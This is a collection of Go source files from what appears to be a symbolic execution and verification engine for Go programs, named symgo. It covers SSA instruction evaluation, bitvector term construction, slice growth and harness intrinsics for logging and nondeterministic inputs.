		if len(r.Vals) > 0 {
			return r.Vals[0]
		}
		return uint64(r.Value)
	}
	switch name {
	case "nondetBool":
		return BoolC(scalar() != 0)
	case "nondetByte", "nondetUint8":
		return Const(8, scalar())
	case "nondetInt", "nondetInt64", "nondetUint64", "nondetUint":
		return Const(64, scalar())
	case "nondetInt32", "nondetUint32", "nondetRune":
		return Const(32, scalar())
	case "nondetUint16":
		return Const(16, scalar())
	case "nondetLen":
		mx := in.concreteInt(a[0].(*Term), name)
		v := int(r.Value)
		if v > mx {
			v = mx
		}
		return i64(v)
	case "nondetChoice":
		n := in.concreteInt(a[0].(*Term), name)
		v := int(r.Value)
		if v >= n {
			v = n - 1
		}
		return i64(v)
	case "nondetBytes":
		n := in.concreteInt(a[0].(*Term), name)
		spare := in.concreteInt(a[1].(*Term), name)
		sl := in.makeSlice(types.Typ[types.Uint8], n, n+spare)
		for i := 0; i < n+spare; i++ {
			var v uint64
			if i < len(r.Vals) {
				v = r.Vals[i]
			}
			sl.Cells[i].V = Const(8, v)
		}
		if n+spare == 0 {
			return &SliceV{Cells: []*Cell{}, Len: 0}
		}
		return sl
	case "nondetString":
		n := in.concreteInt(a[0].(*Term), name)
		s := &StrV{B: make([]*Term, n)}
		for i := 0; i < n; i++ {
			var v uint64
			if i < len(r.Vals) {
				v = r.Vals[i]
			}
			s.B[i] = Const(8, v)
		}
		return s
	}
	panic(engineErr("concrete nondet " + name))
}

// nativeWitness converts a violation's model into the witness format read by the native harness API.
func nativeWitness(params map[string]int, nd []NondetRec, model map[string]uint64, canary bool) NativeWitness {
	w := NativeWitness{Params: params, Canary: canary}
	for _, r := range nd {
		nr := NativeRec{Kind: r.Kind, Value: r.Value}
		for _, v := range r.Vars {
			nr.Vals = append(nr.Vals, model[v])
		}
		w.Nondets = append(w.Nondets, nr)
	}
	return w
}
