package main

// ops.go - evaluation of value-producing SSA instructions.

import (
	"fmt"
	"go/constant"
	"go/token"
	"go/types"
	"unicode/utf8"

	"golang.org/x/tools/go/ssa"
)

func constInt(c *ssa.Const) (uint64, bool) {
	v := constant.ToInt(c.Value)
	if v.Kind() != constant.Int {
		return 0, false
	}
	if i, ok := constant.Int64Val(v); ok {
		return uint64(i), true
	}
	if u, ok := constant.Uint64Val(v); ok {
		return u, true
	}
	return 0, false
}
func constBool(c *ssa.Const) bool     { return constant.BoolVal(c.Value) }
func constString(c *ssa.Const) string { return constant.StringVal(c.Value) }
func constFloat(c *ssa.Const) float64 {
	f, _ := constant.Float64Val(constant.ToFloat(c.Value))
	return f
}

type rangeIter struct {
	str   *StrV
	pos   int
	m     []MapEntry
	isMap bool
}

func (in *Interp) evalValueInstr(g *Goroutine, fr *Frame, instr ssa.Value) (Value, bool) {
	switch x := instr.(type) {
	case *ssa.Alloc:
		t := x.Type().(*types.Pointer).Elem()
		return &PtrV{C: newCell(t, nil)}, true
	case *ssa.BinOp:
		return in.binop(g, x, in.get(fr, x.X), in.get(fr, x.Y))
	case *ssa.UnOp:
		return in.unop(g, x, in.get(fr, x.X))
	case *ssa.Convert:
		return in.convert(in.get(fr, x.X), x.X.Type(), x.Type()), true
	case *ssa.ChangeType:
		return in.get(fr, x.X), true
	case *ssa.MakeInterface:
		return &IfaceV{T: x.X.Type(), V: in.get(fr, x.X)}, true
	case *ssa.ChangeInterface:
		return in.get(fr, x.X), true
	case *ssa.TypeAssert:
		return in.typeAssert(g, x, in.get(fr, x.X))
	case *ssa.Extract:
		return in.get(fr, x.Tuple).(*TupleV).E[x.Index], true
	case *ssa.Field:
		return in.get(fr, x.X).(*StructV).F[x.Field], true
	case *ssa.FieldAddr:
		p := in.get(fr, x.X).(*PtrV)
		if p.C == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "nil pointer dereference (field " + fieldName(x) + ")", Pos: in.posOf(x)})
			return nil, false
		}
		return &PtrV{C: p.C.Kids[x.Field]}, true
	case *ssa.Index:
		return in.index(g, x, in.get(fr, x.X), in.get(fr, x.Index).(*Term))
	case *ssa.IndexAddr:
		return in.indexAddr(g, x, in.get(fr, x.X), in.get(fr, x.Index).(*Term))
	case *ssa.Lookup:
		return in.lookup(g, x, in.get(fr, x.X), in.get(fr, x.Index))
	case *ssa.MakeMap:
		in.objSeq++
		return &MapV{M: &MapObj{id: in.objSeq}}, true
	case *ssa.MakeSlice:
		n := in.concreteInt(in.get(fr, x.Len).(*Term), "make len")
		c := in.concreteInt(in.get(fr, x.Cap).(*Term), "make cap")
		if n < 0 || c < n || c > 1<<24 {
			in.goPanic(g, &PanicV{Kind: "makeslice", Msg: "makeslice: len out of range", Pos: in.posOf(x)})
			return nil, false
		}
		et := x.Type().Underlying().(*types.Slice).Elem()
		return in.makeSlice(et, n, c), true
	case *ssa.MakeChan:
		n := in.concreteInt(in.get(fr, x.Size).(*Term), "chan size")
		in.objSeq++
		return &ChanV{C: &ChanObj{cap: n, id: in.objSeq, elem: x.Type().Underlying().(*types.Chan).Elem()}}, true
	case *ssa.MakeClosure:
		fv := &FuncV{Fn: x.Fn.(*ssa.Function)}
		for _, b := range x.Bindings {
			fv.Free = append(fv.Free, in.get(fr, b))
		}
		in.funcIDs++
		fv.id = in.funcIDs
		return fv, true
	case *ssa.Slice:
		return in.sliceOp(g, fr, x)
	case *ssa.Range:
		v := in.get(fr, x.X)
		switch c := v.(type) {
		case *StrV:
			return &NativeV{X: &rangeIter{str: c}}, true
		case *MapV:
			it := &rangeIter{isMap: true}
			if c.M != nil {
				it.m = in.mapIterOrder(c.M)
			}
			return &NativeV{X: it}, true
		}
		panic(engineErr("range over " + describe(v)))
	case *ssa.Next:
		it := in.get(fr, x.Iter).(*NativeV).X.(*rangeIter)
		return in.next(x, it), true
	case *ssa.SliceToArrayPointer:
		s := in.get(fr, x.X).(*SliceV)
		at := x.Type().(*types.Pointer).Elem().Underlying().(*types.Array)
		if int(at.Len()) > s.Len {
			in.goPanic(g, &PanicV{Kind: "index", Msg: "slice to array pointer: length too short", Pos: in.posOf(x)})
			return nil, false
		}
		cellSeq++
		c := &Cell{T: at, Kids: s.Cells[:at.Len()], id: cellSeq}
		return &PtrV{C: c}, true
	case *ssa.Phi:
		panic(engineErr("phi executed directly"))
	}
	panic(engineErr(fmt.Sprintf("unsupported value instruction %T: %s", instr, instr)))
}

func fieldName(x *ssa.FieldAddr) string {
	st := x.X.Type().Underlying().(*types.Pointer).Elem().Underlying().(*types.Struct)
	return st.Field(x.Field).Name()
}

func (in *Interp) concreteInt(t *Term, what string) int {
	if t.IsConst() {
		return int(sext(t.Val, t.W))
	}
	v := in.concretize(t, what)
	return int(sext(v, t.W))
}

func (in *Interp) makeSlice(et types.Type, n, c int) *SliceV {
	cells := make([]*Cell, c)
	_, isSt := et.Underlying().(*types.Struct)
	_, isArr := et.Underlying().(*types.Array)
	if !isSt && !isArr {
		z := zeroValue(et)
		block := make([]Cell, c)
		for i := range cells {
			cellSeq++
			block[i] = Cell{T: et, V: z, id: cellSeq}
			cells[i] = &block[i]
		}
	} else {
		for i := range cells {
			cells[i] = newCell(et, nil)
		}
	}
	return &SliceV{Cells: cells, Len: n}
}

func (in *Interp) next(x *ssa.Next, it *rangeIter) Value {
	if it.isMap {
		if it.pos >= len(it.m) {
			mt := x.Iter.(*ssa.Range).X.Type().Underlying().(*types.Map)
			return &TupleV{E: []Value{FalseT, zeroValue(mt.Key()), zeroValue(mt.Elem())}}
		}
		e := it.m[it.pos]
		it.pos++
		return &TupleV{E: []Value{TrueT, e.K, e.V}}
	}
	s := it.str
	if it.pos >= len(s.B) {
		return &TupleV{E: []Value{FalseT, Const(64, 0), Const(32, 0)}}
	}
	i := it.pos
	b0 := s.B[i]
	// ASCII fast path / symbolic
	isASCII := Cmp("bvult", b0, Const(8, 0x80))
	if in.branch(isASCII) {
		it.pos++
		return &TupleV{E: []Value{TrueT, Const(64, uint64(i)), ZeroExt(b0, 32)}}
	}
	// non-ASCII: need concrete bytes
	var buf []byte
	for j := i; j < len(s.B) && j < i+4; j++ {
		if !s.B[j].IsConst() {
			if j == i {
				in.inconclusive("range over string with symbolic non-ASCII byte")
			}
			// symbolic continuation: inconclusive
			in.inconclusive("range over string with symbolic continuation byte")
		}
		buf = append(buf, byte(s.B[j].Val))
	}
	r, sz := utf8.DecodeRune(buf)
	it.pos += sz
	return &TupleV{E: []Value{TrueT, Const(64, uint64(i)), Const(32, uint64(uint32(r)))}}
}

func (in *Interp) binop(g *Goroutine, x *ssa.BinOp, a, b Value) (Value, bool) {
	t := x.X.Type()
	switch x.Op {
	case token.EQL:
		return in.valuesEqual(a, b), true
	case token.NEQ:
		return Not(in.valuesEqual(a, b)), true
	}
	if isString(t) {
		sa, sb := a.(*StrV), b.(*StrV)
		switch x.Op {
		case token.ADD:
			nb := make([]*Term, 0, len(sa.B)+len(sb.B))
			nb = append(nb, sa.B...)
			nb = append(nb, sb.B...)
			return &StrV{B: nb}, true
		case token.LSS:
			return strLess(sa, sb), true
		case token.GTR:
			return strLess(sb, sa), true
		case token.LEQ:
			return Not(strLess(sb, sa)), true
		case token.GEQ:
			return Not(strLess(sa, sb)), true
		}
		panic(engineErr("string binop " + x.Op.String()))
	}
	if isBool(t) {
		ta, tb := a.(*Term), b.(*Term)
		switch x.Op {
		case token.AND, token.LAND:
			return And(ta, tb), true
		case token.OR, token.LOR:
			return Or(ta, tb), true
		case token.XOR:
			return Not(Eq(ta, tb)), true
		}
	}
	if isFloat(t) {
		in.inconclusive("floating point arithmetic")
	}
	w, signed, ok := intWidth(t)
	if !ok {
		panic(engineErr("binop on type " + t.String()))
	}
	ta, tb := a.(*Term), b.(*Term)
	switch x.Op {
	case token.ADD:
		return BinBV("bvadd", ta, tb), true
	case token.SUB:
		return BinBV("bvsub", ta, tb), true
	case token.MUL:
		return BinBV("bvmul", ta, tb), true
	case token.QUO, token.REM:
		nz := Not(Eq(tb, Const(w, 0)))
		if !in.branch(nz) {
			in.goPanic(g, &PanicV{Kind: "div", Msg: "integer divide by zero", Pos: in.posOf(x)})
			return nil, false
		}
		if x.Op == token.QUO {
			if signed {
				return BinBV("bvsdiv", ta, tb), true
			}
			return BinBV("bvudiv", ta, tb), true
		}
		if signed {
			return BinBV("bvsrem", ta, tb), true
		}
		return BinBV("bvurem", ta, tb), true
	case token.AND:
		return BinBV("bvand", ta, tb), true
	case token.OR:
		return BinBV("bvor", ta, tb), true
	case token.XOR:
		return BinBV("bvxor", ta, tb), true
	case token.AND_NOT:
		return BinBV("bvand", ta, NotBV(tb)), true
	case token.SHL, token.SHR:
		// shift count may have a different width/signedness
		cw, csigned, _ := intWidth(x.Y.Type())
		if csigned {
			neg := Cmp("bvslt", tb, Const(cw, 0))
			if in.branch(neg) {
				in.goPanic(g, &PanicV{Kind: "shift", Msg: "negative shift amount", Pos: in.posOf(x)})
				return nil, false
			}
		}
		var cnt *Term
		big := FalseT
		if cw > w {
			big = Cmp("bvuge", tb, Const(cw, uint64(w)))
			cnt = Extract(tb, w-1, 0)
		} else {
			cnt = ZeroExt(tb, w)
			big = Cmp("bvuge", cnt, Const(w, uint64(w)))
		}
		var r, over *Term
		switch {
		case x.Op == token.SHL:
			r, over = BinBV("bvshl", ta, cnt), Const(w, 0)
		case signed:
			r = BinBV("bvashr", ta, cnt)
			over = BinBV("bvashr", ta, Const(w, uint64(w-1)))
		default:
			r, over = BinBV("bvlshr", ta, cnt), Const(w, 0)
		}
		return Ite(big, over, r), true
	case token.LSS:
		if signed {
			return Cmp("bvslt", ta, tb), true
		}
		return Cmp("bvult", ta, tb), true
	case token.LEQ:
		if signed {
			return Cmp("bvsle", ta, tb), true
		}
		return Cmp("bvule", ta, tb), true
	case token.GTR:
		if signed {
			return Cmp("bvsgt", ta, tb), true
		}
		return Cmp("bvugt", ta, tb), true
	case token.GEQ:
		if signed {
			return Cmp("bvsge", ta, tb), true
		}
		return Cmp("bvuge", ta, tb), true
	}
	panic(engineErr("binop " + x.Op.String()))
}

func strLess(a, b *StrV) *Term {
	// lexicographic a < b
	n := len(a.B)
	if len(b.B) < n {
		n = len(b.B)
	}
	// result computed from the back
	var r *Term
	if len(a.B) < len(b.B) {
		r = TrueT
	} else {
		r = FalseT
	}
	for i := n - 1; i >= 0; i-- {
		lt := Cmp("bvult", a.B[i], b.B[i])
		eq := Eq(a.B[i], b.B[i])
		r = Or(lt, And(eq, r))
	}
	return r
}

func (in *Interp) unop(g *Goroutine, x *ssa.UnOp, a Value) (Value, bool) {
	switch x.Op {
	case token.MUL: // load
		p := a.(*PtrV)
		if p.C == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "nil pointer dereference (load)", Pos: in.posOf(x)})
			return nil, false
		}
		return in.load(p.C), true
	case token.NOT:
		return Not(a.(*Term)), true
	case token.SUB:
		if isFloat(x.X.Type()) {
			in.inconclusive("floating point")
		}
		return NegBV(a.(*Term)), true
	case token.XOR:
		return NotBV(a.(*Term)), true
	}
	panic(engineErr("unop " + x.Op.String()))
}

func (in *Interp) convert(v Value, from, to types.Type) Value {
	fu, tu := from.Underlying(), to.Underlying()
	// integer -> integer
	if fw, fs, ok := intWidth(from); ok {
		if tw, _, ok2 := intWidth(to); ok2 {
			t := v.(*Term)
			if tw <= fw {
				return Extract(t, tw-1, 0)
			}
			if fs {
				return SignExt(t, tw)
			}
			return ZeroExt(t, tw)
		}
		if isString(to) {
			// string(rune)
			t := v.(*Term)
			if !t.IsConst() {
				// ASCII only
				w := t.W
				ok := Cmp("bvult", t, Const(w, 0x80))
				if fs {
					ok = And(ok, Cmp("bvsge", t, Const(w, 0)))
				}
				if in.branch(ok) {
					return &StrV{B: []*Term{Extract(t, 7, 0)}}
				}
				in.inconclusive("string(rune) with symbolic non-ASCII rune")
			}
			return strConst(string(rune(sext(t.Val, fw))))
		}
		if isFloat(to) {
			in.inconclusive("int to float conversion")
		}
		if b, ok := tu.(*types.Basic); ok && b.Kind() == types.UnsafePointer {
			in.inconclusive("uintptr to unsafe.Pointer")
		}
	}
	if isString(from) {
		s := v.(*StrV)
		if sl, ok := tu.(*types.Slice); ok {
			if w, _, ok := intWidth(sl.Elem()); ok && w == 8 {
				r := in.makeSlice(sl.Elem(), len(s.B), len(s.B))
				for i, b := range s.B {
					r.Cells[i].V = b
				}
				return r
			}
			if w, _, ok := intWidth(sl.Elem()); ok && w == 32 {
				// []rune(s): needs concrete or ASCII
				var rs []*Term
				for i := 0; i < len(s.B); {
					b := s.B[i]
					if in.branch(Cmp("bvult", b, Const(8, 0x80))) {
						rs = append(rs, ZeroExt(b, 32))
						i++
						continue
					}
					var buf []byte
					for j := i; j < len(s.B) && j < i+4; j++ {
						if !s.B[j].IsConst() {
							in.inconclusive("[]rune(s) with symbolic non-ASCII bytes")
						}
						buf = append(buf, byte(s.B[j].Val))
					}
					r, sz := utf8.DecodeRune(buf)
					rs = append(rs, Const(32, uint64(uint32(r))))
					i += sz
				}
				r := in.makeSlice(sl.Elem(), len(rs), len(rs))
				for i, b := range rs {
					r.Cells[i].V = b
				}
				return r
			}
		}
		if isString(to) {
			return v
		}
	}
	if sl, ok := fu.(*types.Slice); ok {
		if isString(to) {
			s := v.(*SliceV)
			w, _, _ := intWidth(sl.Elem())
			if w == 8 {
				b := make([]*Term, s.Len)
				for i := 0; i < s.Len; i++ {
					b[i] = in.loadLeaf(s.Cells[i]).(*Term)
				}
				return &StrV{B: b}
			}
			if w == 32 {
				var out []*Term
				for i := 0; i < s.Len; i++ {
					r := in.loadLeaf(s.Cells[i]).(*Term)
					if r.IsConst() {
						for _, c := range []byte(string(rune(int32(r.Val)))) {
							out = append(out, Const(8, uint64(c)))
						}
						continue
					}
					if in.branch(Cmp("bvult", r, Const(32, 0x80))) {
						out = append(out, Extract(r, 7, 0))
						continue
					}
					in.inconclusive("string([]rune) with symbolic non-ASCII rune")
				}
				return &StrV{B: out}
			}
		}
		if _, ok := tu.(*types.Slice); ok {
			return v
		}
	}
	if _, ok := fu.(*types.Pointer); ok {
		return v // pointer <-> unsafe.Pointer
	}
	if b, ok := fu.(*types.Basic); ok && b.Kind() == types.UnsafePointer {
		return v
	}
	if isFloat(from) || isFloat(to) {
		in.inconclusive("floating point conversion")
	}
	panic(engineErr(fmt.Sprintf("convert %s -> %s", from, to)))
}

func (in *Interp) implements(dyn types.Type, iface *types.Interface) bool {
	return types.Implements(dyn, iface)
}

func (in *Interp) typeAssert(g *Goroutine, x *ssa.TypeAssert, v Value) (Value, bool) {
	iv := v.(*IfaceV)
	ok := false
	var res Value
	if iv.T != nil {
		if ti, isI := x.AssertedType.Underlying().(*types.Interface); isI {
			ok = in.implements(iv.T, ti)
			res = iv
		} else {
			ok = types.Identical(iv.T, x.AssertedType)
			res = iv.V
		}
	}
	if x.CommaOk {
		if !ok {
			res = zeroValue(x.AssertedType)
		}
		return &TupleV{E: []Value{res, BoolC(ok)}}, true
	}
	if !ok {
		in.goPanic(g, &PanicV{Kind: "typeassert", Msg: fmt.Sprintf("interface conversion: %v is not %s", iv.T, x.AssertedType), Pos: in.posOf(x)})
		return nil, false
	}
	return res, true
}

// boundsCheck forks on idx within [0,n); on the failing side raises an index panic.
func (in *Interp) boundsCheck(g *Goroutine, idx *Term, n int, pos string, what string) bool {
	var ok *Term
	if idx.W < 64 && !idx.IsConst() {
		// widen so that the length is representable (index operands may be bytes)
		idx = ZeroExt(idx, 64)
	}
	if idx.IsConst() {
		i := sext(idx.Val, idx.W)
		ok = BoolC(i >= 0 && i < int64(n))
	} else {
		ok = Cmp("bvult", idx, Const(idx.W, uint64(n)))
	}
	if in.branch(ok) {
		return true
	}
	in.goPanic(g, &PanicV{Kind: "index", Msg: fmt.Sprintf("%s out of range [?] with length %d", what, n), Pos: pos})
	return false
}

// selectByIndex builds an ite-chain reading element idx of vals (all scalars).
func selectTerm(idx *Term, vals []*Term) *Term {
	lo, hi := idx.rng()
	if hi >= uint64(len(vals)) {
		hi = uint64(len(vals) - 1)
	}
	if lo > hi {
		lo = hi
	}
	// group runs of identical entries (constant tables such as utf8.first collapse to a few ranges)
	type run struct {
		end uint64 // last index of the run
		v   *Term
	}
	var runs []run
	for i := lo; i <= hi; i++ {
		v := vals[i]
		if n := len(runs); n > 0 && (runs[n-1].v == v || (v.IsConst() && runs[n-1].v.IsConst() && v.Val == runs[n-1].v.Val && v.W == runs[n-1].v.W)) {
			runs[n-1].end = i
			continue
		}
		runs = append(runs, run{i, v})
	}
	r := runs[len(runs)-1].v
	for k := len(runs) - 2; k >= 0; k-- {
		var c *Term
		first := lo
		if k > 0 {
			first = runs[k-1].end + 1
		}
		if runs[k].end == first {
			c = Eq(idx, Const(idx.W, first))
		} else {
			c = Cmp("bvule", idx, Const(idx.W, runs[k].end))
		}
		r = Ite(c, runs[k].v, r)
	}
	return r
}

func (in *Interp) index(g *Goroutine, x *ssa.Index, c Value, idx *Term) (Value, bool) {
	switch cv := c.(type) {
	case *StrV:
		if !in.boundsCheck(g, idx, len(cv.B), in.posOf(x), "index") {
			return nil, false
		}
		if idx.IsConst() {
			return cv.B[idx.Val], true
		}
		return selectTerm(idx, cv.B), true
	case *ArrayV:
		if !in.boundsCheck(g, idx, len(cv.E), in.posOf(x), "index") {
			return nil, false
		}
		if idx.IsConst() {
			return cv.E[idx.Val], true
		}
		ts := make([]*Term, len(cv.E))
		for i, e := range cv.E {
			t, ok := e.(*Term)
			if !ok {
				i := in.concretize(idx, "array index")
				return cv.E[i], true
			}
			ts[i] = t
		}
		return selectTerm(idx, ts), true
	}
	panic(engineErr("index on " + describe(c)))
}

func (in *Interp) indexAddr(g *Goroutine, x *ssa.IndexAddr, c Value, idx *Term) (Value, bool) {
	var cells []*Cell
	switch cv := c.(type) {
	case *SliceV:
		cells = cv.Cells[:cv.Len]
	case *PtrV:
		if cv.C == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "nil pointer dereference (array index)", Pos: in.posOf(x)})
			return nil, false
		}
		cells = cv.C.Kids
	default:
		panic(engineErr("indexaddr on " + describe(c)))
	}
	if !in.boundsCheck(g, idx, len(cells), in.posOf(x), "index") {
		return nil, false
	}
	if idx.IsConst() {
		return &PtrV{C: cells[idx.Val]}, true
	}
	// symbolic index: if every use of this address is a load of a scalar, build an ite-chain lazily
	if refs := x.Referrers(); refs != nil {
		allLoads := true
		for _, r := range *refs {
			u, ok := r.(*ssa.UnOp)
			if !ok || u.Op != token.MUL {
				if _, isDbg := r.(*ssa.DebugRef); isDbg {
					continue
				}
				allLoads = false
				break
			}
		}
		if allLoads && len(cells) <= 1024 {
			ts := make([]*Term, len(cells))
			scalar := true
			for i, cl := range cells {
				if cl.Kids != nil {
					scalar = false
					break
				}
				t, ok := in.loadLeaf(cl).(*Term)
				if !ok {
					scalar = false
					break
				}
				ts[i] = t
			}
			if scalar {
				cellSeq++
				tmp := &Cell{T: cells[0].T, V: selectTerm(idx, ts), id: cellSeq}
				return &PtrV{C: tmp}, true
			}
		}
	}
	i := in.concretize(idx, "slice index")
	return &PtrV{C: cells[i]}, true
}

func (in *Interp) lookup(g *Goroutine, x *ssa.Lookup, c Value, k Value) (Value, bool) {
	switch cv := c.(type) {
	case *StrV:
		idx := k.(*Term)
		if !in.boundsCheck(g, idx, len(cv.B), in.posOf(x), "index") {
			return nil, false
		}
		if idx.IsConst() {
			return cv.B[idx.Val], true
		}
		return selectTerm(idx, cv.B), true
	case *MapV:
		v, ok := in.mapLookup(cv.M, k)
		if !ok {
			v = zeroValue(x.X.Type().Underlying().(*types.Map).Elem())
		}
		if x.CommaOk {
			return &TupleV{E: []Value{v, BoolC(ok)}}, true
		}
		return v, true
	}
	panic(engineErr("lookup on " + describe(c)))
}

func (in *Interp) sliceOp(g *Goroutine, fr *Frame, x *ssa.Slice) (Value, bool) {
	c := in.get(fr, x.X)
	getIdx := func(v ssa.Value, def int) int {
		if v == nil {
			return def
		}
		return in.concreteInt(in.get(fr, v).(*Term), "slice bound")
	}
	switch cv := c.(type) {
	case *StrV:
		lo := getIdx(x.Low, 0)
		hi := getIdx(x.High, len(cv.B))
		if lo < 0 || hi < lo || hi > len(cv.B) {
			in.goPanic(g, &PanicV{Kind: "index", Msg: fmt.Sprintf("slice bounds out of range [%d:%d] with length %d", lo, hi, len(cv.B)), Pos: in.posOf(x)})
			return nil, false
		}
		return &StrV{B: cv.B[lo:hi]}, true
	case *SliceV:
		lo := getIdx(x.Low, 0)
		hi := getIdx(x.High, cv.Len)
		mx := getIdx(x.Max, cv.Cap())
		if lo < 0 || hi < lo || mx < hi || mx > cv.Cap() {
			in.goPanic(g, &PanicV{Kind: "index", Msg: fmt.Sprintf("slice bounds out of range [%d:%d:%d] with capacity %d", lo, hi, mx, cv.Cap()), Pos: in.posOf(x)})
			return nil, false
		}
		if cv.Nil && hi == 0 {
			return &SliceV{Nil: true}, true
		}
		return &SliceV{Cells: cv.Cells[lo:mx:mx], Len: hi - lo}, true
	case *PtrV:
		if cv.C == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "nil pointer dereference (slice of array pointer)", Pos: in.posOf(x)})
			return nil, false
		}
		cells := cv.C.Kids
		lo := getIdx(x.Low, 0)
		hi := getIdx(x.High, len(cells))
		mx := getIdx(x.Max, len(cells))
		if lo < 0 || hi < lo || mx < hi || mx > len(cells) {
			in.goPanic(g, &PanicV{Kind: "index", Msg: "slice bounds out of range (array)", Pos: in.posOf(x)})
			return nil, false
		}
		return &SliceV{Cells: cells[lo:mx:mx], Len: hi - lo}, true
	}
	panic(engineErr("slice of " + describe(c)))
}

// appendCells implements append with Go's growth policy (approximately: exact for small sizes).
func (in *Interp) appendVals(et types.Type, s *SliceV, vals []Value) *SliceV {
	if len(vals) == 0 {
		return s
	}
	need := s.Len + len(vals)
	if need <= s.Cap() {
		for i, v := range vals {
			in.store(s.Cells[s.Len+i], v)
		}
		return &SliceV{Cells: s.Cells, Len: need}
	}
	newcap := growCap(s.Cap(), need, et)
	ns := in.makeSlice(et, need, newcap)
	for i := 0; i < s.Len; i++ {
		// fresh cells: write directly (not through the write log; cells are new)
		ns.Cells[i].setDirect(in.load(s.Cells[i]))
	}
	for i, v := range vals {
		ns.Cells[s.Len+i].setDirect(v)
	}
	return ns
}

func (c *Cell) setDirect(v Value) {
	if c.Kids == nil {
		c.V = v
		return
	}
	switch x := v.(type) {
	case *StructV:
		for i, k := range c.Kids {
			k.setDirect(x.F[i])
		}
	case *ArrayV:
		for i, k := range c.Kids {
			k.setDirect(x.E[i])
		}
	}
}

func elemSize(et types.Type) int {
	s := types.SizesFor("gc", "amd64")
	return int(s.Sizeof(et))
}

var sizeClasses = []int{0, 8, 16, 24, 32, 48, 64, 80, 96, 112, 128, 144, 160, 176, 192, 208, 224, 240, 256, 288, 320, 352, 384, 416, 448, 480, 512, 576, 640, 704, 768, 896, 1024, 1152, 1280, 1408, 1536, 1792, 2048, 2304, 2688, 3072, 3200, 3456, 4096, 4864, 5376, 6144, 6528, 6784, 6912, 8192, 9472, 9728, 10240, 10880, 12288, 13568, 14336, 16384, 18432, 19072, 20480, 21760, 24576, 27264, 28672, 32768}

func roundupsize(n int) int {
	for _, c := range sizeClasses {
		if c >= n {
			return c
		}
	}
	// page-rounded
	return (n + 8191) / 8192 * 8192
}

// growCap mirrors runtime.growslice's capacity computation (go1.23).
func growCap(oldCap, newLen int, et types.Type) int {
	newcap := oldCap
	doublecap := newcap + newcap
	if newLen > doublecap {
		newcap = newLen
	} else {
		const threshold = 256
		if oldCap < threshold {
			newcap = doublecap
		} else {
			for {
				newcap += (newcap + 3*threshold) >> 2
				if uint(newcap) >= uint(newLen) {
					break
				}
			}
		}
	}
	es := elemSize(et)
	if es == 0 {
		return newcap
	}
	mem := roundupsize(newcap * es)
	return mem / es
}
