package main

func (in *Interp) harnessIntrinsic2(g *Goroutine, name string, c *callCtx) (Value, int, bool) {
	return nil, 0, false
}
