package main

// harnessapi2.go - harness API: loggers, contexts, log inspection, cancellation.

func (in *Interp) harnessIntrinsic2(g *Goroutine, name string, c *callCtx) (Value, int, bool) {
	a := c.args
	switch name {
	case "verifNewLogger":
		return in.newLogger(nil), irDone, true
	case "verifLogCount":
		return i64(len(in.logs)), irDone, true
	case "verifLogMsg":
		i := in.concreteInt(a[0].(*Term), name)
		return in.logs[i].msg, irDone, true
	case "verifLogLevel":
		i := in.concreteInt(a[0].(*Term), name)
		return i64(in.logs[i].level), irDone, true
	case "verifLogHasAttr":
		i := in.concreteInt(a[0].(*Term), name)
		k, _ := a[1].(*StrV).Concrete()
		_, ok := in.findAttr(g, in.logs[i].attrs, k)
		return BoolC(ok), irDone, true
	case "verifLogAttr":
		i := in.concreteInt(a[0].(*Term), name)
		k, _ := a[1].(*StrV).Concrete()
		v, ok := in.findAttr(g, in.logs[i].attrs, k)
		if !ok {
			return strConst(""), irDone, true
		}
		return in.attrString(g, v), irDone, true
	}
	return in.harnessTime(g, name, c)
}
