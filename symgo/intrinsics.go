package main

// intrinsics.go - engine models for leaf routines (assembly), sync, atomic, errors, misc.

import (
	"fmt"
	"go/types"
	"golang.org/x/tools/go/ssa"
	"strings"
)

var intrinsics = map[string]intrinsicFn{}

func reg(name string, f intrinsicFn) { intrinsics[name] = f }

func done(v Value) (Value, int) { return v, irDone }

func tuple(vs ...Value) Value { return &TupleV{E: vs} }

func i64(n int) *Term { return Const(64, uint64(int64(n))) }

func (in *Interp) bytesOf(v Value) []*Term {
	switch x := v.(type) {
	case *StrV:
		return x.B
	case *SliceV:
		b := make([]*Term, x.Len)
		for i := 0; i < x.Len; i++ {
			b[i] = in.loadLeaf(x.Cells[i]).(*Term)
		}
		return b
	}
	panic(engineErr("bytesOf " + describe(v)))
}

// indexByte returns the index of the first byte equal to c (forking per position), or -1.
func (in *Interp) indexByte(b []*Term, c *Term) int {
	for i, x := range b {
		if in.branch(Eq(x, c)) {
			return i
		}
	}
	return -1
}

func (in *Interp) hasPrefixAt(b []*Term, at int, sep []*Term) *Term {
	r := TrueT
	for j := range sep {
		r = And(r, Eq(b[at+j], sep[j]))
		if r.IsFalse() {
			return r
		}
	}
	return r
}

func (in *Interp) indexSeq(b, sep []*Term) int {
	for i := 0; i+len(sep) <= len(b); i++ {
		if in.branch(in.hasPrefixAt(b, i, sep)) {
			return i
		}
	}
	return -1
}

func (in *Interp) countByte(b []*Term, c *Term) *Term {
	n := Const(64, 0)
	for _, x := range b {
		n = BinBV("bvadd", n, Ite(Eq(x, c), Const(64, 1), Const(64, 0)))
	}
	return n
}

func (in *Interp) compareBytes(a, b []*Term) *Term {
	// returns -1,0,1 as 64-bit
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	var r *Term
	switch {
	case len(a) < len(b):
		r = Const(64, ^uint64(0))
	case len(a) > len(b):
		r = Const(64, 1)
	default:
		r = Const(64, 0)
	}
	for i := n - 1; i >= 0; i-- {
		r = Ite(Cmp("bvult", a[i], b[i]), Const(64, ^uint64(0)), Ite(Cmp("bvugt", a[i], b[i]), Const(64, 1), r))
	}
	return r
}

func init() {
	// ----- internal/bytealg -----
	ib := func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(i64(in.indexByte(in.bytesOf(c.args[0]), c.args[1].(*Term))))
	}
	reg("internal/bytealg.IndexByte", ib)
	reg("internal/bytealg.IndexByteString", ib)
	cnt := func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(in.countByte(in.bytesOf(c.args[0]), c.args[1].(*Term)))
	}
	reg("internal/bytealg.Count", cnt)
	reg("internal/bytealg.CountString", cnt)
	idx := func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(i64(in.indexSeq(in.bytesOf(c.args[0]), in.bytesOf(c.args[1]))))
	}
	reg("internal/bytealg.Index", idx)
	reg("internal/bytealg.IndexString", idx)
